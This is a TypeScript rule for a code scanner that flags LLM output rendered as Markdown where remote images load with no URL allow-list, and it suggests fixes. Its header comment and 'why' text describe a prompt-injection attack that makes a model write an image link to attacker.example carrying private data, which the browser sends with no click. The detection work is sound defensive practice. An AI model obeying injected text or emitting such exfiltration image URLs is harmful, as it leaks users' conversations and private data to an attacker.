// Model output rendered by a Markdown renderer that loads the images the text names: a prompt
// injection anywhere in the model's context makes it write
// `![](https://attacker.example/?d=<private data>)` and the user's browser sends the data as the
// answer renders, with no click. The engine records a `markdown` sink only where the renderer's
// options leave image URLs to the text (models/markdown.ts, eval/markdown-images.ts).
import { Taint } from "../server/src/engine/rule-api";
import { defineRule } from "./define";
import { capitalised, describeSource } from "./taint-names";

export default defineRule({
  id: "markdown-exfiltration",
  meta: {
    description: "Report model output rendered as Markdown or HTML that loads the remote images it names (react-markdown, Streamdown, marked, markdown-it) with no image URL allow-list",
    severity: "error", surveySection: "6.2.6", owaspLlm2026: ["LLM01", "LLM10"], owaspAgentic: ["ASI01"], cwe: ["CWE-201", "CWE-359"], atlas: ["AML.T0077", "AML.T0086"],
    why: "A renderer that loads every image the model writes is a zero-click exfiltration channel: text injected into the model's context (a web page, a document, a tool result) makes it answer with `![](https://attacker.example/log?d=...)` holding the conversation or other private data, and the user's browser sends it as the answer renders.",
  },
  create(ctx) {
    return {
      sink(hit) {
        if (hit.sink !== "markdown" || !(hit.t & Taint.Model)) return;
        const api = hit.detail.api ?? "a Markdown renderer";
        const via = hit.detail.via ? ` inside \`${hit.detail.via}()\`` : "";
        ctx.report({
          file: hit.file, start: hit.start, end: hit.end, trail: hit.trail,
          sinkStep: { file: hit.file, start: hit.start, end: hit.end, description: `rendered by ${api.startsWith("<") ? `\`${api}\`` : `\`${api}()\``}${via}` },
          confidence: hit.confidence,
          message: `${capitalised(describeSource(hit, ctx))} is rendered by \`${api}\`${via}, which loads the images it names from any host: a prompt injection in the model's context can make it write an image URL carrying private data, and the browser requests it with no click. Restrict image URLs to hosts you trust (react-markdown's \`urlTransform\`, a \`components.img\` override, Streamdown's \`allowedImagePrefixes\`) or drop images (\`disallowedElements={["img"]}\`).`,
        });
      },
    };
  },
});
